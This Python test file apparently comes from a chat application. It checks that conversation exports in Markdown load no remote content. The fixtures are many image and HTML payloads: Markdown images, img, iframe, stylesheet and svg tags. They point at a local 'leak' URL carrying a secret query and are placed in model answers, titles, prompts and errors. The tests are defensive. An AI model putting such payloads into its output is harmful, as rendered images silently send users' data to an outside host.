"""The Markdown export loads nothing by itself in another Markdown viewer: every image in model
text (and in titles, prompts, error words) becomes a link, raw HTML is text, code stays as it is.
Checked by rendering the export as two viewers would: markdown-it-py (CommonMark with raw HTML,
as GitHub-like viewers) and markdown2 (which passes raw HTML through)."""

from __future__ import annotations

import re
from datetime import datetime, timezone
from pathlib import Path

import markdown2
import pytest
from markdown_it import MarkdownIt

from secretgpt.records import StreamRecord, StreamStatus
from secretgpt.storage.inert_markdown import inert
from secretgpt.storage.sql import SqlConversationStore, database_url
from tests.support.big_exports import chain

OWNER = "owner"
T0 = datetime(2025, 3, 1, 12, 0, tzinfo=timezone.utc)
LEAK = "http://127.0.0.1:19501/leak?q=secret"

IMAGES = {
    "inline": f"Here: ![chart]({LEAK})",
    "with a title": f'![chart]({LEAK} "a title")',
    "reference": f"See ![chart][ref].\n\n[ref]: {LEAK}",
    "collapsed reference": f"![chart][]\n\n[chart]: {LEAK}",
    "shortcut reference": f"![chart]\n\n[chart]: {LEAK}",
    "protocol-relative": "![chart](//127.0.0.1:19501/leak)",
    "no alt text": f"![]({LEAK})",
    "in a table": f"| a | b |\n| --- | --- |\n| ![chart]({LEAK}) | 2 |",
    "in a link": f"[![chart]({LEAK})](https://example.org/)",
    "in a list in a quote": f"> - ![chart]({LEAK})",
    "angle brackets": f"![chart](<{LEAK}>)",
    "after an escaped backslash": f"\\\\![chart]({LEAK})",
    "an obsidian embed": "![[picture.png]]",
    "nested too deep for markdown-it": "> " * 60 + f"![chart]({LEAK})",
}
HTML = {
    "img": f'<img src="{LEAK}">',
    "img as a block": f'<img src="{LEAK}" alt="x">\n\nafter',
    "picture": f'<picture><source srcset="{LEAK}"></picture>',
    "video poster": f'<video poster="{LEAK}"></video>',
    "audio": f'<audio src="{LEAK}" autoplay></audio>',
    "iframe": f'<iframe src="{LEAK}"></iframe>',
    "stylesheet": f'<link rel="stylesheet" href="{LEAK}">',
    "style import": f"<style>@import url({LEAK});</style>",
    "svg image": f'<svg><image href="{LEAK}"/></svg>',
    "object": f'<object data="{LEAK}"></object>',
    "a div around an image": f"<div>\n\n![chart]({LEAK})\n\n</div>",
    "a comment": "<!-- hidden -->",
}
CODE = ("Code stays as written:\n\n```html\n<img src=\"x.png\">\n![alt](y.png)\n```\n\n"
        "and inline `![alt](z.png)` or `<img src=z>`, and indented:\n\n    <img src=\"w.png\">")
# An element that loads something, or any element with an attribute that does (text shows as &lt;…).
LOADING_HTML = re.compile(r"<(img|picture|source|video|audio|iframe|link|style|svg|image|object|embed)\b|"
                          r"<[a-z][^>]*\s(src|srcset|poster|data|background)\s*=", re.IGNORECASE)
VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


@pytest.fixture
async def store(tmp_path: Path):
    opened = await SqlConversationStore.open(database_url(tmp_path))
    yield opened
    await opened.close()


def answer(conversation_id: str, stream_id: str, text: str, think: str = "", **fields: object) -> StreamRecord:
    return StreamRecord(stream_id=stream_id, conversation_id=conversation_id, owner=OWNER, model="m",
                        status=StreamStatus.COMPLETED, text=text, think=think, started_at=T0, **fields)


def rendered_by_viewers(markdown: str) -> list[str]:
    return [VIEWER.render(markdown), markdown2.markdown(markdown, extras=["tables"])]


def assert_loads_nothing(markdown: str) -> None:
    for html in rendered_by_viewers(markdown):
        assert not LOADING_HTML.search(html), LOADING_HTML.search(html)
    # The export's own HTML is all there is: its collapsible blocks.
    assert {t.type for t in VIEWER.parse(markdown) if t.type.startswith("html")} <= {"html_block"}
    for token in VIEWER.parse(markdown):
        if token.type == "html_block":
            assert re.fullmatch(r"(<details><summary>[^<>\n]*</summary>|</details>)\n", token.content), token.content


@pytest.mark.parametrize("text", [*IMAGES.values(), *HTML.values()], ids=[*IMAGES, *HTML])
async def test_model_text_in_the_export_loads_nothing(store: SqlConversationStore, text: str) -> None:
    conversation = await store.create(OWNER, "Images")
    await store.add_user_turn(conversation.id, OWNER, "Show me")
    await store.save_answer(answer(conversation.id, "s1", text, think=text))
    markdown = await store.export_markdown(conversation.id, OWNER)
    assert LEAK in markdown or "picture.png" in markdown or "19501" in markdown or "hidden" in markdown
    assert_loads_nothing(markdown)


async def test_an_image_becomes_a_link_to_the_same_address(store: SqlConversationStore) -> None:
    conversation = await store.create(OWNER, "Images")
    await store.add_user_turn(conversation.id, OWNER, "Show me")
    await store.save_answer(answer(conversation.id, "s1", f"Here: ![chart]({LEAK}) and ![]({LEAK}#2)"))
    markdown = await store.export_markdown(conversation.id, OWNER)
    assert f"Here: [image: chart]({LEAK}) and [image]({LEAK}#2)" in markdown
    html = VIEWER.render(markdown)
    assert f'<a href="{LEAK.replace("&", "&amp;")}">image: chart</a>' in html


async def test_code_in_the_export_is_left_as_written(store: SqlConversationStore) -> None:
    conversation = await store.create(OWNER, "Code")
    await store.add_user_turn(conversation.id, OWNER, "Code?")
    await store.save_answer(answer(conversation.id, "s1", CODE))
    markdown = await store.export_markdown(conversation.id, OWNER)
    assert CODE in markdown
    assert_loads_nothing(markdown)


async def test_titles_prompts_model_names_and_errors_load_nothing_either(store: SqlConversationStore) -> None:
    # An imported file sets all of these; the model server writes the error.
    doc = chain(2)
    doc["conversation"].update(title=f"![t]({LEAK})", system=f"Prompt <img src={LEAK}>")
    doc["conversation"]["messages"][1].update(status="error", metadata={
        "model": f"m` ![x]({LEAK}) `", "error": f"failed <img src={LEAK}>\n\n![e]({LEAK})"})
    [conversation_id] = await store.import_json(OWNER, doc)
    markdown = await store.export_markdown(conversation_id, OWNER)
    assert markdown.startswith(f"# [image: t]({LEAK})\n")
    assert_loads_nothing(markdown)


async def test_a_reference_defined_in_another_message_is_caught_in_the_whole_file(
        store: SqlConversationStore) -> None:
    # An escaped backtick looks like a code span to the rewrite, which leaves the image in it; alone
    # it loads nothing (no such reference), but another message defines the reference.
    conversation = await store.create(OWNER, "References")
    await store.add_user_turn(conversation.id, OWNER, "One")
    await store.save_answer(answer(conversation.id, "s1", "\\`![chart][ref]`"))
    await store.add_user_turn(conversation.id, OWNER, f"[ref]: {LEAK}")
    assert inert("\\`![chart][ref]`") == "\\`![chart][ref]`"
    markdown = await store.export_markdown(conversation.id, OWNER)
    assert_loads_nothing(markdown)
    assert "chart" in markdown and "## Assistant" in markdown  # still readable
